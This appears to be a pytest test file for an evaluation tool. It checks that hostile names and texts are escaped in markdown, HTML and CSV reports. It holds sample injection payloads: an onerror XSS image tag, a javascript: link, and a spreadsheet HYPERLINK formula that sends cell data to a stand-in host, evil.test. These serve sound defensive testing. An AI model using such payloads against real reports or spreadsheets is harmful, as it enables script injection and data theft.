"""Untrusted texts of servers and data are plain text in a report, never markup or a link."""

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pandas
import pytest

from looktwice.eval import score_table
from looktwice.eval.display.printable import make_csv_cell
from looktwice.eval.display.text_tables import escape_markdown
from tests.first_day.studies import looktwice
from tests.under_fire.scenes import RUN, run_command, write_questions

EVIL = (
    "a|b `c` <img src=x onerror=alert(1)> ![p](http://evil.test/p.png) [t](javascript:x)"
    " <http://evil.test> \"'\n# H"
)
STUDY = """
tasks: {NAME: {use: eval.tasks.Folder, path: own, note: NAME, split: NAME}}
models: {m: {use: pipelines.models.Scripted, answer: NAME}}
stages: {ask: {use: prompting.turns.Ask}}
contestants: {NAME: {}, other: {stages: {ask: {system: NAME}}}, LEFT: {needs: {env: NOT_SET_HERE}}}
"""


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A finished run in which every name and text is hostile; one question fails."""
    monkeypatch.chdir(tmp_path)
    row = {"question": EVIL, "choices": [EVIL, "b"], "meta": {"kind": EVIL}}
    images = {"id": f"{EVIL}2", "images": ["q.png"]}, {"id": "3", "images": ["p.png"]}
    write_questions(row | {"id": EVIL}, *(row | more for more in images))
    Path("own/q.png").unlink()
    name = EVIL.replace("\n", " ")
    study = STUDY.replace("LEFT", json.dumps(f"left {name}")).replace("NAME", json.dumps(name))
    Path("study.yaml").write_text(study)
    looktwice("run", "study.yaml")
    run_command(0, "score", RUN, "--report", "--by", "kind")
    looktwice("view", RUN, "--sample", EVIL, "--out", RUN / "one.html")
    return RUN


def test_the_markdown_report_contains_no_foreign_markup(run: Path) -> None:
    text = (run / "report.md").read_text()
    assert "evil" in text
    for markup in (r"(?<!\\)!?\[[^\]\\]*(?<!\\)\]\(", "<img", "<http", r"https?:", r"(?m)^# H"):
        assert not re.search(markup, text), markup
    for line in (line for line in text.splitlines() if line.startswith("|")):
        assert len(re.findall(r"(?<!\\)\|", line)) > 2


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[object] = []
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            is_fetched = name in ("src", "href") and not re.match(r"(data:image/|#)", value or "")
            if name.startswith("on") or is_fetched or tag in ("iframe", "object"):
                self.wrong.append((tag, name, value))
        self.scripts += tag == "script"


def test_the_pages_contain_no_foreign_markup(run: Path) -> None:
    for page, scripts in (("report.html", 9), ("one.html", 0)):
        tags = Tags()
        tags.feed((run / page).read_text())
        assert not tags.wrong and tags.scripts == scripts, page


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        *(("a|b", r"a\|b"), ("<b>", "&lt;b&gt;"), ("a\nb", "a<br>b"), ("- x", r"\- x")),
        *(("---", "---"), ("max_new_tokens", "max_new_tokens"), ("\x1b[31m", r"\\x1b\[31m")),
        ("![x](http://y)", r"\!\[x\](http<!-- -->://y)"),
    ],
)
def test_a_text_in_markdown_is_shown_verbatim(text: str, shown: str) -> None:
    assert escape_markdown(text) == shown


FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x")'
CELLS = """
tasks: {"-2+3": {use: eval.tasks.Folder, path: own, split: "@SUM(A1)"}}
models: {m: {use: pipelines.models.Scripted, answer: "(A)"}}
stages: {choose: {use: prompting.wording.MultipleChoice}, ask: {use: prompting.turns.Ask}}
contestants: {NAME: {}, "+1 more": {stages: {ask: {images: after}}}}
each: [{stages.ask.system: "\t=1+1"}]
"""


def test_a_name_is_never_a_formula_in_a_spreadsheet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    write_questions({}, {})
    Path("study.yaml").write_text(CELLS.replace("NAME", json.dumps(FORMULA)))
    run_command(0, "run", "study.yaml")
    for path, column in ((RUN / "report.csv", "value"), (RUN / "effects.csv", "effect")):
        with path.open(newline="") as file:
            cells = {cell for row in csv.reader(file) for cell in row}
        number = re.compile(r"[+-]?\d+(\.\d*)?(e[+-]?\d+)?|-inf|nan")
        assert not [c for c in cells if c[:1] in tuple("=+-@\t\r\n") and not number.fullmatch(c)]
        assert {f"'{FORMULA}", "'-2+3"} < cells
        assert pandas.read_csv(path)[column].dtype.kind in "if"
    assert FORMULA in set(score_table(RUN).to_pandas().contestant)
    given = ("-5", "+1e-3", "-", -0.5, "=1", "a=1", "\tx", "a;=1", "\r=1")
    shown = ["-5", "+1e-3", "'-", -0.5, "'=1", "a=1", "'\tx", "a;'=1", "\\r=1"]
    assert [make_csv_cell(value) for value in given] == shown
